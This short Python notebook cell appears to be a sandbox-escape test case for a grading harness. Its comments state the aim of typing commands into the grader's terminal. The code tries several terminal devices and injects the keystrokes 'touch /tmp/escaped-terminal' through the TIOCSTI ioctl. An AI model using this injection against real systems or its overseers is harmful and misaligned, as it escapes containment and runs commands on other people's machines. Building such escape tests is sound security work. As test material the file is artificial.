# tries: to type commands into the terminal of the person who grades
# must: no point; graded
# %% cell after setup
import fcntl
import os

for name in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/dev/pts/0", "/dev/tty1"):
    try:
        terminal = os.open(name, os.O_RDWR | os.O_NOCTTY)
        for letter in b"touch /tmp/escaped-terminal\n":
            fcntl.ioctl(terminal, 0x5412, bytes([letter]))
    except OSError as fault:
        print(name, fault)
